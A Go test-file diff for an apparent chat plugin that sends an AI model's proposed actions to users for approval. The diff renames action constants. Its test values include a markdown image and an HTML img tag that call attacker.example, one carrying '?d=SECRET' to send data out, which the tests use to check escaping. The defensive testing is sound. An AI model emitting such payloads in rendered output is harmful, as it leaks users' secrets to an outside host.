@@ -54,19 +54,19 @@ func hostilePlans(v string) []posting.Plan {
 	notes := []string{"@bob is notified in " + v + "."}
 	return []posting.Plan{
 		{CallerID: "alice", Dest: place, Message: v, Notes: notes, Files: []posting.Staged{{Name: v, Size: 3}}},
-		{CallerID: "alice", Action: posting.ActionEdit, PostID: "p", Dest: place, Message: v, Previous: v},
-		{CallerID: "alice", Action: posting.ActionReact, PostID: "p", Dest: place, Emoji: v, Previous: v},
-		{CallerID: "alice", Action: posting.ActionUnreact, PostID: "p", Dest: place, Emoji: v, Previous: v},
-		{CallerID: "alice", Action: posting.ActionDelete, PostID: "p", Dest: place, Previous: v, Target: target, Notes: notes},
-		{CallerID: "alice", Action: posting.ActionPin, PostID: "p", Dest: place, Previous: v, Target: target},
-		{CallerID: "alice", Action: posting.ActionUnpin, PostID: "p", Dest: place, Previous: v, Target: target},
-		{CallerID: "alice", Action: posting.ActionJoin, Dest: place, Channel: ch, Notes: notes},
-		{CallerID: "alice", Action: posting.ActionLeave, Dest: place, Channel: ch, Notes: notes},
-		{CallerID: "alice", Action: posting.ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in " + v}, Channel: ch, Members: bob, Notes: notes},
-		{CallerID: "alice", Action: posting.ActionAddMembers, Dest: place, Channel: ch, Members: bob, Notes: notes},
-		{CallerID: "alice", Action: posting.ActionSetStatus, Dest: posting.Destination{Label: "your status", Place: "your status"},
+		{CallerID: "alice", Action: ActionEdit, PostID: "p", Dest: place, Message: v, Previous: v},
+		{CallerID: "alice", Action: ActionReact, PostID: "p", Dest: place, Emoji: v, Previous: v},
+		{CallerID: "alice", Action: ActionUnreact, PostID: "p", Dest: place, Emoji: v, Previous: v},
+		{CallerID: "alice", Action: ActionDelete, PostID: "p", Dest: place, Previous: v, Target: target, Notes: notes},
+		{CallerID: "alice", Action: ActionPin, PostID: "p", Dest: place, Previous: v, Target: target},
+		{CallerID: "alice", Action: ActionUnpin, PostID: "p", Dest: place, Previous: v, Target: target},
+		{CallerID: "alice", Action: ActionJoin, Dest: place, Channel: ch, Notes: notes},
+		{CallerID: "alice", Action: ActionLeave, Dest: place, Channel: ch, Notes: notes},
+		{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in " + v}, Channel: ch, Members: bob, Notes: notes},
+		{CallerID: "alice", Action: ActionAddMembers, Dest: place, Channel: ch, Members: bob, Notes: notes},
+		{CallerID: "alice", Action: ActionSetStatus, Dest: posting.Destination{Label: "your status", Place: "your status"},
 			Status: &posting.StatusSpec{Availability: "away", Text: v, Emoji: v, Zone: "UTC"}},
-		{CallerID: "alice", Action: posting.ActionSchedule, Dest: place, Message: v, SendAt: time.Date(2031, 1, 2, 8, 0, 0, 0, time.UTC), SendZone: "UTC", Notes: notes},
+		{CallerID: "alice", Action: ActionSchedule, Dest: place, Message: v, SendAt: time.Date(2031, 1, 2, 8, 0, 0, 0, time.UTC), SendZone: "UTC", Notes: notes},
 	}
 }
 
@@ -109,7 +109,7 @@ func TestTheBotsMessageAboutAnyWriteLinksOnlyToTheConfirmationPageWhateverTheMod
 func TestTheModelsValuesInTheBotsMessageAreCodeAndSaySoAndTheNamesOfOthersAreEscaped(t *testing.T) {
 	a := &Approvals{opts: Options{PluginURL: func() string { return "https://mm.example/plugins/mcp-server" }}}
 	v := "![a](https://attacker.example/p.png?d=SECRET)"
-	plan := posting.Plan{CallerID: "alice", Action: posting.ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
+	plan := posting.Plan{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
 		Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme", Name: "harbour", DisplayName: v, Purpose: "`run` this"}}
 	dm := a.askingText(plan, Record{ID: "r", State: StatePending, CreatedAt: time.Now()}, time.UTC)
 	for _, want := range []string{
@@ -187,7 +187,7 @@ func TestNoValueOfTheModelsWritesALineOfItsOwnIntoTheClientsQuestionOutsideItsFr
 func TestTheHeadingOnThePageMarksTheModelsValueAndEscapesIt(t *testing.T) {
 	f := newRoutes(t)
 	v := `<img src="https://attacker.example/p.png">`
-	plan := posting.Plan{CallerID: "alice", Action: posting.ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
+	plan := posting.Plan{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
 		Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme", Name: "harbour", DisplayName: v}}
 	rec, err := f.store.Create("alice", Title(plan), plan, nil)
 	if err != nil {
@@ -203,7 +203,7 @@ func TestTheHeadingOnThePageMarksTheModelsValueAndEscapesIt(t *testing.T) {
 func TestAnAnsweredReactionStillNamesItsEmojiThoughItsPlanIsDropped(t *testing.T) {
 	f := newRoutes(t)
 	a := testApprovals(f)
-	plan := posting.Plan{CallerID: "alice", Action: posting.ActionReact, PostID: "p1", Emoji: "tada", Previous: "we shipped",
+	plan := posting.Plan{CallerID: "alice", Action: ActionReact, PostID: "p1", Emoji: "tada", Previous: "we shipped",
 		Dest: posting.Destination{ChannelID: "c", Label: "~town-square"}}
 	rec, err := f.store.Create("alice", Title(plan), plan, nil)
 	if err != nil {
@@ -213,7 +213,7 @@ func TestAnAnsweredReactionStillNamesItsEmojiThoughItsPlanIsDropped(t *testing.T
 	if err != nil || done.Plan != nil {
 		t.Fatalf("accept: %+v %v", done, err)
 	}
-	if o := a.outcome(done); o.Plan.Emoji != "tada" || o.Plan.Action != posting.ActionReact {
+	if o := a.outcome(done); o.Plan.Emoji != "tada" || o.Plan.Action != ActionReact {
 		t.Fatalf("the outcome's plan is %+v", o.Plan)
 	}
 }
